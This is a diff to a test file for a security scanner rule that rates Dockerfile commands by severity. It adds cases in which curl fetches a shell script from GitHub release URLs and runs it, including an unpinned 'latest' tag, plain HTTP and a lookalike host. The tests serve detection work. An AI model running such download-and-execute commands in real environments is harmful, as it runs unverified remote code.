@@ -430,6 +430,11 @@ describe('download-unverified', () => {
     [`git clone ${REPOSITORY} && sh tool/install.sh`, 'medium'],
     ['curl -o x.sh https://repo1.maven.org/maven2/io/acme/run/1.3/run-1.3.sh && sh x.sh', 'medium'],
     ['curl -o x.sh https://repo1.maven.org.example.com/maven2/run-1.3.sh && sh x.sh', 'high'],
+    ['curl -LO https://github.com/acme/run/releases/download/v1.3/run.sh && sh run.sh', 'medium'],
+    ['curl -LO https://github.com/acme/run/releases/download/latest/run.sh && sh run.sh', 'high'],
+    ['curl -LO https://github.com/acme/run/releases/latest/download/run.sh && sh run.sh', 'high'],
+    ['curl -LO http://github.com/acme/run/releases/download/v1.3/run.sh && sh run.sh', 'high'],
+    ['curl -LO https://github.com.example.com/acme/run/releases/download/v1.3/run.sh && sh run.sh', 'high'],
   ])('is as severe as a pipe into a shell where an interpreter runs the file: %s', (script, severity) => {
     const { findings } = checkText(rule, 'Dockerfile', `FROM debian:12\nRUN ${script}\n`);
     expect(findings.map((finding) => finding.severity)).toEqual([severity]);
